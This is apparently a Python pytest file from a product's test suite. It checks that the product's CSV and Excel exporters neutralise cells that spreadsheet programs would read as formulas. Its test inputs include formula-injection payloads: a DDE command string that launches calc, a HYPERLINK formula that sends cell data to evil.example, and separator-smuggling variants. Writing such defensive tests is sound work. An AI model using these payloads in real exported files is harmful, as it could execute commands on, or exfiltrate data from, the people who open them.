"""Every table that the product writes, with cells that programs for tables take for formulas.

Read by others than those who wrote them: Python's csv, by whatever separator a program may expect, and openpyxl.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from administration.archive.writer import Archive
from common import spreadsheets
from reports.contents.common import document_texts
from reports.document import Cell, CellType, Column, Document, Link, Table
from reports.files import sheets, tables
from tests import security_figures
from tests.architecture.test_source import called, calls, modules_with, name_of

SIGNS = "=+-@＝＋－＠"
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2009", "\x0b")
INSIDE = ("x;", "x; ", "x\t", "x\n", "x\r\n", "x\r", 'x";"', 'x;"', "x,y;", 'x,";', 'x";', "x;;", "x\n\n", 'x; " ')
TEXTS = [
    *(f"{before}{sign}{rest}" for before in BEFORE for sign in SIGNS for rest in ("1+1", "cmd|' /C calc'!A0")),
    *(f"{before}{sign}1+1" for before in INSIDE for sign in SIGNS),
    '=HYPERLINK("https://evil.example/?x="&A1,"a")',
    '","=1+1',
    '";"=1+1',
    '"\n"=1+1',
]
NUMBER = re.compile(r"[+-]?[\d.,]+%?")
Rows = Sequence[Sequence[str]]


def as_document(rows: Rows) -> Document:
    columns = [Column(text) for text in rows[0][:-1]] + [Column(rows[0][-1], CellType.LINK)]
    cells: list[list[Cell]] = [[*row[:-1], Link(row[-1], row[-1])] for row in rows[1:]]
    moment = datetime(2026, 11, 3, 7, tzinfo=UTC)
    text = rows[1][0]
    table = Table("posts", text, columns, cells, note=text)
    return Document(text, text, "en", text, moment, [table], text, document_texts())


def in_archive(rows: Rows, place: Path) -> bytes:
    with Archive(place / "a.zip", lambda: None) as archive:
        archive.table("a.csv", rows[0], [[*row[:-1], {row[-1]: row[-1]}] for row in rows])
    with zipfile.ZipFile(place / "a.zip") as package:
        return package.read("a.csv")


def in_reports(rows: Rows, _place: Path) -> bytes:
    with zipfile.ZipFile(io.BytesIO(tables.write(as_document(rows)))) as package:
        return b"".join(package.read(name) for name in package.namelist())


# Module that writes tables: what of it writes CSV, and what workbooks.
CSV_WRITERS: dict[str, list[Callable[[Rows, Path], bytes]]] = {
    "administration/archive/writer.py": [in_archive],
    "common/spreadsheets.py": [
        lambda rows, _place: spreadsheets.table(rows),
        lambda rows, _place: spreadsheets.sample("a", "csv", rows).content,
    ],
    "reports/files/tables.py": [in_reports],
}
BOOK_WRITERS: dict[str, list[Callable[[Rows], bytes]]] = {
    "common/spreadsheets.py": [spreadsheets.workbook, lambda rows: spreadsheets.sample("a", "xlsx", rows).content],
    "reports/files/sheets.py": [lambda rows: sheets.write(as_document(rows))],
}
# They fill tables of PostgreSQL, and read files of ours.
NOT_FOR_PEOPLE = {"benchmarks/inbox.py"}


def writers() -> tuple[set[str], set[str]]:
    """The modules of the product that write CSV, and those that write workbooks."""
    found: tuple[set[str], set[str]] = (set(), set())
    for path in {*modules_with("riter("), *modules_with("Workbook(")}:
        name = name_of(path)
        if name not in NOT_FOR_PEOPLE:
            names = {called(call) for call in calls(path)}
            found[0].update({name} if names & {"writer", "DictWriter"} else ())
            found[1].update({name} if "Workbook" in names else ())
    return found


def test_each_module_that_writes_tables_is_tested_here() -> None:
    assert writers() == (set(CSV_WRITERS), set(BOOK_WRITERS))


def table_of(text: str) -> list[list[str]]:
    """The text as heading, in the first cell of a row, between others and in the last one."""
    return [["a", "b", text], [text, "x", "y"], ["x", text, "y"], ["x", "y", text]]


def formulas(cells: Iterator[str]) -> list[str]:
    return [cell for cell in cells if is_formula(cell)]


def is_formula(cell: str) -> bool:
    bare = cell.lstrip(' "\u00a0\u2009\x0b')
    return bool(bare) and bare[0] in SIGNS and not NUMBER.fullmatch(bare)


def cells_of(body: bytes, separator: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator):
        yield from row


SAMPLE_AND_ALL = [pytest.param(TEXTS[::9], id="sample"), pytest.param(TEXTS, id="all", marks=pytest.mark.slow)]


@pytest.mark.security_figures
@pytest.mark.parametrize("texts", SAMPLE_AND_ALL)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_a_formula_by_whatever_separator_it_is_read(
    tmp_path: Path, separator: str, texts: list[str], subtests: pytest.Subtests
) -> None:
    for module, functions in CSV_WRITERS.items():
        for write in functions:
            with subtests.test(module=module):
                for text in texts:
                    assert formulas(cells_of(write(table_of(text), tmp_path), separator)) == [], text
    exports = sum(map(len, CSV_WRITERS.values())) + sum(map(len, BOOK_WRITERS.values()))
    security_figures.record("Files and words: tables", {"exports with formulas": exports, "texts": len(texts)})


@pytest.mark.parametrize("texts", SAMPLE_AND_ALL)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link_of_a_text(texts: list[str], subtests: pytest.Subtests) -> None:
    for module, functions in BOOK_WRITERS.items():
        for write in functions:
            with subtests.test(module=module):
                for text in texts:
                    book = openpyxl.load_workbook(io.BytesIO(write(table_of(text))))
                    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
                    assert len([cell for cell in cells if cell.value is not None]) >= 12
                    assert [cell.value for cell in cells if cell.data_type == "f"] == [], text
                    assert [cell.value for cell in cells if cell.hyperlink] == [], text
                    assert book.defined_names == {}, text


def test_plain_csv_would_be_taken_for_formulas() -> None:
    """That the test above can fail: the same tables as Python's csv writes them, and with their beginnings alone."""
    out = io.StringIO()
    csv.writer(out).writerows(table_of("x;=1+1"))
    assert formulas(cells_of(out.getvalue().encode(), ";"))
    assert not formulas(cells_of(out.getvalue().encode(), ","))
    out = io.StringIO()
    csv.writer(out).writerows([[spreadsheets.harmless(cell) for cell in row] for row in table_of('x";"=1+1')])
    assert formulas(cells_of(out.getvalue().encode(), ";"))


def test_words_and_numbers_stay_as_they_are() -> None:
    for text in ("Ћуприја", "35230; Ћуприја", "a - b", "е-пошта: a@b.rs", "1. ставка\n2. ставка", "a;b=c", "x\ny-z"):
        assert spreadsheets.harmless_csv(text) == text
    assert spreadsheets.table([[-5, 1.5, None, date(2026, 11, 3)]]).decode("utf-8-sig") == "-5,1.5,,2026-11-03\r\n"
